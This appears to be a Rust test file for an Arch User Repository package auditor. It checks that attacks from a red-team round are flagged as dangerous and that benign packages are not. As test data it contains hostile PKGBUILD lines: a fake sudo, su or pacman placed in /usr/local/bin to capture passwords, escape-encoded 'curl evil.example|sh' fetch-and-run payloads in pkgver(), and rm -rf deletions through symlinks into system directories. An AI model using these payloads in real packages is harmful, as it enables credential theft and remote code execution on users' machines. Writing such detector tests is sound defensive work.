//! Attack round 30's breaks of the AUR audit (findings/attack30.md), each in its real shape with
//! our own text: the attack is now caught, and the package's ordinary neighbours are not.

use archgate_aur::audit::{AuditInput, Severity, Verdict, audit};

use crate::support::max_of;

/// A package that installs its helper with `line` in package().
fn packaged(line: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgname=foopkg\npkgver=1.0\npkgrel=1\narch=('any')\nurl=\"https://example.org/foopkg\"\nlicense=('MIT')\nsource=(\"https://example.org/foopkg-1.0.tar.gz\")\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000')\npackage() {{\n  {line}\n}}\n"
        ),
        install_scripts: Vec::new(),
        srcinfo: None,
    }
}

/// F3: a program named like a system command in /usr/local/bin or /usr/local/sbin comes before
/// /usr/bin on every login's PATH (a `sudo` that keeps the password ran in the person's place).
#[test]
fn a_system_commands_name_in_usr_local_is_dangerous() {
    for line in [
        r#"install -Dm755 sudo-helper "$pkgdir/usr/local/bin/sudo""#,
        r#"install -Dm755 sudo-helper "$pkgdir/usr/local/sbin/sudo""#,
        r#"install -Dm755 sudo-helper "$pkgdir/usr/bin/sudo-helper"; ln -s /usr/bin/sudo-helper "$pkgdir/usr/local/bin/sudo""#,
        r#"install -Dm755 sudo-helper "$pkgdir/usr/local/bin/pacman""#,
        r#"cp sudo-helper "$pkgdir/usr/local/bin/su""#,
    ] {
        let r = audit(&packaged(line));
        assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
        assert_eq!(
            max_of(&r, "AUR-PERSISTENCE"),
            Some(Severity::Critical),
            "{line}"
        );
    }
}

/// Its neighbours: a program of the package's own name in /usr/local/bin is worth review (Arch's
/// packages never install there), not dangerous; in /usr/bin it is nothing.
#[test]
fn the_packages_own_program_in_usr_local_is_review_and_in_usr_bin_nothing() {
    let r = audit(&packaged(
        r#"install -Dm755 foopkg "$pkgdir/usr/local/bin/foopkg""#,
    ));
    assert_eq!(
        max_of(&r, "AUR-PERSISTENCE"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
    assert_ne!(r.verdict, Verdict::Dangerous);
    let r = audit(&packaged(
        r#"install -Dm755 foopkg "$pkgdir/usr/bin/foopkg""#,
    ));
    assert_eq!(max_of(&r, "AUR-PERSISTENCE"), None, "{}", r.to_text());
}

/// A package whose pkgver() is `body`, with an install file that only thanks.
fn with_pkgver(body: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgname=foopkg\npkgver=1\npkgrel=1\narch=('any')\nurl=\"https://example.org/foopkg\"\nlicense=('MIT')\ninstall=foopkg.install\nsource=(\"https://example.org/foopkg-1.0.tar.gz\")\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000')\npkgver() {{\n  {body}\n}}\npackage() {{\n  install -Dm644 foopkg.txt \"$pkgdir/usr/share/foopkg/foopkg.txt\"\n}}\n"
        ),
        install_scripts: vec![archgate_aur::audit::ScriptFile {
            name: "foopkg.install".into(),
            content: "post_install() {\n  echo \"Thanks for installing foopkg\"\n}\n".into(),
        }],
        srcinfo: None,
    }
}

/// F1: the version pkgver() prints, judged after printf's and `echo -e`'s escapes are decoded
/// (`\073` is `;`, `\x7c` is `|`); an ordinary printed version stays ok.
#[test]
fn a_version_printed_through_escapes_is_judged_decoded() {
    for body in [
        r"printf '1\073curl\044{IFS}evil.example\174sh\073true'",
        r"printf '\0471\073curl\044{IFS}evil.example\174sh\073true\047'",
        r"echo -e '1\x3bcurl${IFS}evil.example\x7csh\x3btrue'",
        r"printf '%s\n' '1;curl${IFS}evil.example|sh;true'",
    ] {
        let r = audit(&with_pkgver(body));
        assert_eq!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
        assert_eq!(
            max_of(&r, "AUR-VERSION-CODE"),
            Some(Severity::Critical),
            "{body}"
        );
    }
    for body in [
        r"printf 'r%s.%s' 42 abc123",
        r"printf '%s\n' 1.2.3",
        r"echo -e '1.2.3\n'",
        r#"git describe --long --tags | sed 's/\([^-]*-g\)/r\1/;s/-/./g'"#,
    ] {
        let r = audit(&with_pkgver(body));
        assert_eq!(
            max_of(&r, "AUR-VERSION-CODE"),
            None,
            "{body}\n{}",
            r.to_text()
        );
    }
}

/// Round 29's link-following (a deletion through a link the file made) met development-set
/// packages that only link *into* a directory or link in another split package's `$pkgdir`:
/// neither deletion goes through a link to the system; the attack through a real link still does.
#[test]
fn a_deletion_goes_through_a_link_only_where_the_link_is() {
    for line in [
        // The link is made inside the directory (named xzcat); the file removed is another.
        r#"mkdir -p "$pkgdir/opt/foo/tool"; ln -svf /usr/bin/xzcat "$pkgdir/opt/foo/tool/"; rm "$pkgdir/opt/foo/tool/gtk2""#,
        r#"ln -s /usr/x/usr/lib "$pkgdir/usr/x/"; rm -rf "$pkgdir/usr/x/"{bin,sbin,etc,share,var}"#,
    ] {
        let r = audit(&packaged(line));
        assert_eq!(
            max_of(&r, "AUR-WRITE-SYSTEM"),
            None,
            "{line}\n{}",
            r.to_text()
        );
    }
    // A split package's link is not in another's $pkgdir.
    let split = AuditInput {
        pkgbuild: "pkgbase=foo\npkgname=(foo foo-headers)\npkgver=1\npkgrel=1\narch=('x86_64')\nurl=\"https://example.org/foo\"\nlicense=('GPL')\nsource=(\"https://example.org/foo-1.tar.gz\")\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000')\npackage_foo() {\n  ln -sv \"/var/lib/modules/1\" \"${pkgdir}/usr/lib/modules/1\"\n}\npackage_foo-headers() {\n  local modulesdir=\"$pkgdir/usr/lib/modules/1\"\n  mkdir -p \"$modulesdir\"\n  rm \"$modulesdir\"/{source,build}\n}\n".into(),
        install_scripts: Vec::new(),
        srcinfo: None,
    };
    let r = audit(&split);
    assert_eq!(max_of(&r, "AUR-WRITE-SYSTEM"), None, "{}", r.to_text());
    // Through a link the same function made, to a system tree: still caught.
    let r = audit(&packaged(
        r#"ln -sfn /usr/lib "$pkgdir/l"; rm -rf "$pkgdir/l/modules""#,
    ));
    assert!(r.verdict != Verdict::Ok, "{}", r.to_text());
}
